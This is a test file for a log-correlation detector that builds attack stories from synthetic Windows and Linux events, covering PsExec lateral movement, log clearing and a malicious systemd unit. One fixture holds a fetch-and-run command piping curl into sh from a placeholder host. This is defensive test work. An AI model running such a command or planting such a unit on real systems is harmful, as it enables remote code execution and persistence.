/**
 * Stories from hand-written chains: which records join, which stay out, when two service units
 * are one story, the steps and techniques, and the Linux chain (unit file → daemon-reload →
 * systemctl start → the unit's process started by systemd).
 */
import { describe, expect, it } from 'vitest';
import type { Story } from '../report/index.js';
import { buildStories, type StorySeed } from './build-stories.js';
import type { StoryRecord } from './story-record.js';
import { linuxEvent, recordsOf, windowsEvent } from './story-test-events.js';

const seed = (record: StoryRecord | undefined, level = 'medium'): StorySeed => ({
  eventKey: record?.eventKey ?? '?',
  title: 'rule',
  level,
});
const steps = (story: Story | undefined): string =>
  story?.steps.map((s) => `${s.step}:${s.events}`).join(' ') ?? 'none';

/** A unit file written and a `systemctl` run (pid, parent pid), as Linux process events carry them. */
const unitWritten = (seconds: number, name: string) =>
  linuxEvent(seconds, 'file_event', { TargetFilename: `/etc/systemd/system/${name}`, Image: '/usr/bin/cp' });
const systemctl = (seconds: number, pid: number, ppid: number, command: string, user = 'root') =>
  linuxEvent(seconds, 'process_creation', {
    ProcessId: pid,
    ParentProcessId: ppid,
    Image: '/usr/bin/systemctl',
    CommandLine: command,
    User: user,
  });
/** The process systemd starts for a unit: its parent is pid 1. */
const execStart = (seconds: number) =>
  linuxEvent(seconds, 'process_creation', {
    ProcessId: 600,
    ParentProcessId: 1,
    Image: '/usr/bin/bash',
    CommandLine: '/bin/bash -c "curl http://x | sh"',
    ParentImage: '/usr/lib/systemd/systemd',
  });

/** PsExec on the target: logon, ADMIN$ copy, svcctl, 7045 + 4697, PSEXESVC.exe, cmd → whoami, stop. */
function psexec(at: number, host = 'FS01', logon = '0x5c3a1f2'): StoryRecord[] {
  const sec = {
    Channel: 'Security',
    SubjectUserName: 'it-admin',
    SubjectDomainName: 'CORP',
    SubjectLogonId: logon,
    IpAddress: '10.20.30.45',
  };
  return recordsOf([
    windowsEvent(
      at,
      {
        Channel: 'Security',
        EventID: 4624,
        LogonType: 3,
        TargetLogonId: logon,
        TargetUserName: 'it-admin',
        TargetDomainName: 'CORP',
        IpAddress: '10.20.30.45',
      },
      host,
    ),
    windowsEvent(
      at + 0.01,
      { ...sec, EventID: 5145, ShareName: '\\\\*\\ADMIN$', RelativeTargetName: 'PSEXESVC.exe' },
      host,
    ),
    windowsEvent(at + 0.02, { ...sec, EventID: 5145, ShareName: '\\\\*\\IPC$', RelativeTargetName: 'svcctl' }, host),
    windowsEvent(
      at + 0.2,
      {
        Channel: 'System',
        EventID: 7045,
        ServiceName: 'PSEXESVC',
        ImagePath: '%SystemRoot%\\PSEXESVC.exe',
        AccountName: 'LocalSystem',
      },
      host,
    ),
    windowsEvent(
      at + 0.2,
      { ...sec, EventID: 4697, ServiceName: 'PSEXESVC', ServiceFileName: '%SystemRoot%\\PSEXESVC.exe' },
      host,
    ),
    windowsEvent(
      at + 0.3,
      {
        Channel: 'Security',
        EventID: 4688,
        NewProcessId: '0x1a2c',
        ProcessId: '0x2a0',
        NewProcessName: 'C:\\Windows\\PSEXESVC.exe',
        ParentProcessName: 'C:\\Windows\\System32\\services.exe',
        SubjectLogonId: '0x3e7',
      },
      host,
    ),
    windowsEvent(
      at + 0.4,
      {
        Channel: 'Security',
        EventID: 4688,
        NewProcessId: '0x1b40',
        ProcessId: '0x1a2c',
        NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
        CommandLine: 'cmd.exe',
        SubjectLogonId: '0x3e7',
      },
      host,
    ),
    windowsEvent(
      at + 3,
      {
        Channel: 'Security',
        EventID: 4688,
        NewProcessId: '0x1c08',
        ProcessId: '0x1b40',
        NewProcessName: 'C:\\Windows\\System32\\whoami.exe',
        CommandLine: 'whoami /all',
        ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
        SubjectLogonId: '0x3e7',
      },
      host,
    ),
    windowsEvent(at + 120, { Channel: 'System', EventID: 7036, param1: 'PSEXESVC', param2: 'stopped' }, host),
  ]);
}

describe('buildStories', () => {
  it('tells a remote PsExec as one story: logon → share → install → start → payload → clean-up', () => {
    const records = psexec(0);
    const stories = buildStories(records, [
      seed(
        records.find((r) => r.eventId === 7045),
        'medium',
      ),
    ]);
    expect(stories.length).toBe(1);
    const story = stories[0] as Story;
    expect(steps(story)).toBe('logon:1 share:2 install:2 start:1 payload:2 cleanup:1');
    expect(story.techniques).toEqual(['T1021.002', 'T1570', 'T1543.003', 'T1569.002', 'T1059.003']);
    expect(story.level).toBe('high'); // medium, raised one step for the complete chain
    expect(story.summary).toBe(
      'On FS01, CORP\\it-admin logged on from 10.20.30.45, opened ADMIN$, IPC$, installed service PSEXESVC, which ran services.exe → psexesvc.exe → cmd.exe → whoami.exe, then stopped PSEXESVC.',
    );
    expect(story.attack.mitigations.length).toBeGreaterThan(0);
    expect(story.attack.controls.map((c) => c.id)).toContain('CM-7');
    expect(story.processes.map((p) => p.image)).toEqual(['C:\\Windows\\PSEXESVC.exe']);
  });

  it('tells nothing without a finding among the service’s own events', () => {
    const records = psexec(0);
    expect(buildStories(records, [])).toEqual([]);
    // A finding on a merely nearby event (a svcctl pipe opened minutes before an unrelated service start) is not enough.
    const other = recordsOf([
      windowsEvent(0, {
        Channel: 'Security',
        EventID: 5145,
        ShareName: '\\\\*\\IPC$',
        RelativeTargetName: 'svcctl',
        SubjectLogonId: '0x77',
        SubjectUserName: 'x',
      }),
      windowsEvent(60, { Channel: 'System', EventID: 7036, param1: 'Windows Update', param2: 'running' }),
    ]);
    expect(buildStories(other, [seed(other[0])])).toEqual([]);
  });

  it('makes one story of units within half an hour, two of units further apart, per host', () => {
    const a = psexec(0);
    const b = psexec(20 * 60, 'FS01', '0x99');
    const c = psexec(2 * 3600, 'FS01', '0xaa');
    const d = psexec(60, 'FS02', '0xbb');
    const all = [...a, ...b, ...c, ...d];
    const seeds = [a, b, c, d].map((r) => seed(r.find((x) => x.eventId === 4697)));
    const stories = buildStories(all, seeds);
    expect(stories.map((s) => `${s.host} ${s.steps.find((x) => x.step === 'install')?.events}`)).toEqual([
      'FS01 4',
      'FS02 2',
      'FS01 2',
    ]);
  });

  it('leaves out a log clearing before the story and keeps one after it', () => {
    const clear = (at: number) =>
      recordsOf([windowsEvent(at, { Channel: 'Security', EventID: 1102, SubjectUserName: 'it-admin' })]);
    const records = [...clear(-30), ...psexec(0), ...clear(300)];
    const story = buildStories(records, [seed(records.find((r) => r.eventId === 7045))])[0];
    expect(story?.events.filter((e) => e.eventId === 1102).map((e) => e.step)).toEqual(['cleanup']);
    expect(story?.techniques).toContain('T1070.001');
  });

  it('caps the events per step and counts the rest', () => {
    const many = recordsOf(
      Array.from({ length: 80 }, (_, i) =>
        windowsEvent(i, {
          Channel: 'System',
          EventID: 7045,
          ServiceName: `svc${i}`,
          ImagePath: `cmd.exe /c echo ${i}`,
        }),
      ),
    );
    const story = buildStories(
      many,
      many.map((r) => seed(r)),
      { maxEventsPerStep: 10 },
    )[0];
    expect(story?.events.length).toBe(10);
    expect(story?.omittedEvents).toBe(70);
    expect(story?.steps[0]?.events).toBe(80);
  });

  it('tells the Linux chain: unit file → daemon-reload → systemctl start → the unit’s process', () => {
    const records = recordsOf([
      unitWritten(0, 'evil.service'),
      systemctl(1, 500, 400, 'systemctl daemon-reload'),
      systemctl(2, 501, 400, 'systemctl start evil.service'),
      execStart(2.5),
      linuxEvent(2.6, 'process_creation', {
        ProcessId: 601,
        ParentProcessId: 600,
        Image: '/usr/bin/curl',
        CommandLine: 'curl http://x',
      }),
    ]);
    const stories = buildStories(records, [seed(records[0])]);
    expect(stories.length).toBe(1);
    expect(steps(stories[0])).toBe('install:2 start:2 payload:1');
    expect(stories[0]?.techniques).toEqual(['T1543.002', 'T1569.003']);
    expect(stories[0]?.summary).toBe(
      'On deb12, installed service evil.service (by root), which ran systemd → bash → curl.',
    );
  });

  it('keeps PsExec sessions days apart in two stories, though each deletes the same PSEXESVC.exe', () => {
    const deleteAt = (at: number): StoryRecord[] =>
      recordsOf([
        windowsEvent(at + 121, {
          Channel: 'Microsoft-Windows-Sysmon/Operational',
          EventID: 23,
          TargetFilename: 'C:\\Windows\\PSEXESVC.exe',
          Image: 'C:\\Windows\\System32\\services.exe',
        }),
      ]);
    const first = [...psexec(0, 'FS01', '0x111'), ...deleteAt(0)];
    const second = [...psexec(3 * 86_400, 'FS01', '0x222'), ...deleteAt(3 * 86_400)];
    const installs = [first, second].map((r) => seed(r.find((x) => x.eventId === 7045)));
    const stories = buildStories([...first, ...second], installs);
    expect(stories.map((s) => steps(s))).toEqual([
      'logon:1 share:2 install:2 start:1 payload:2 cleanup:2',
      'logon:1 share:2 install:2 start:1 payload:2 cleanup:2',
    ]);
  });

  it('does not link a share access of the same logon id days later (ids recur after a reboot)', () => {
    const chain = psexec(0);
    const later = recordsOf([
      windowsEvent(5 * 86_400, {
        Channel: 'Security',
        EventID: 5145,
        SubjectUserName: 'bob',
        SubjectDomainName: 'CORP',
        SubjectLogonId: '0x5c3a1f2',
        IpAddress: '10.9.9.9',
        ShareName: '\\\\*\\C$',
        RelativeTargetName: 'Users\\bob\\notes.txt',
      }),
    ]);
    const [story] = buildStories([...chain, ...later], [seed(chain.find((x) => x.eventId === 7045))]);
    expect(story?.accounts).toEqual(['CORP\\it-admin']);
    expect(story?.last).toBe(Date.parse('2024-05-01T10:02:00Z'));
  });

  it('takes a log without host names, or with empty ones, as one machine per file', () => {
    const install = (file: string) =>
      recordsOf([
        windowsEvent(0, {
          Computer: '',
          Channel: 'System',
          EventID: 7045,
          ServiceName: `x${file}`,
          ImagePath: 'c:\\x.exe',
        }),
      ]).map((r) => ({ ...r, source: { ...r.source, file }, eventKey: `${file}\u0000${r.eventKey}` }));
    const records = [...install('a.evtx'), ...install('b.evtx')];
    const stories = buildStories(
      records,
      records.map((r) => seed(r)),
    );
    expect(stories.map((s) => s.summary)).toEqual([
      'On the host of a.evtx, installed service xa.evtx.',
      'On the host of b.evtx, installed service xb.evtx.',
    ]);
  });

  it('tells a story of 200,000 events with findings (no argument-count limit)', () => {
    const events = Array.from({ length: 200_000 }, (_, i) =>
      windowsEvent(i * 5, {
        Channel: 'System',
        EventID: 7036,
        param1: 'EvilSvc',
        param2: i % 2 ? 'stopped' : 'running',
      }),
    );
    const records = recordsOf(events);
    const stories = buildStories(
      records,
      records.map((r) => seed(r, 'high')),
    );
    expect(stories.map((s) => [s.level, s.findings])).toEqual([['high', 200_000]]);
  });

  it('gives an ExecStart process to the start of the unit just written, not to a later start of another', () => {
    const r = recordsOf([
      unitWritten(0, 'evil.service'),
      systemctl(1, 501, 400, 'systemctl start evil.service'),
      systemctl(1.5, 502, 401, 'systemctl restart nginx', 'admin'),
      execStart(2.5),
    ]);
    expect(buildStories(r, [seed(r[0])]).map((s) => s.summary)).toEqual([
      'On deb12, installed service evil.service (by root), which ran systemd → bash.',
    ]);
  });
});
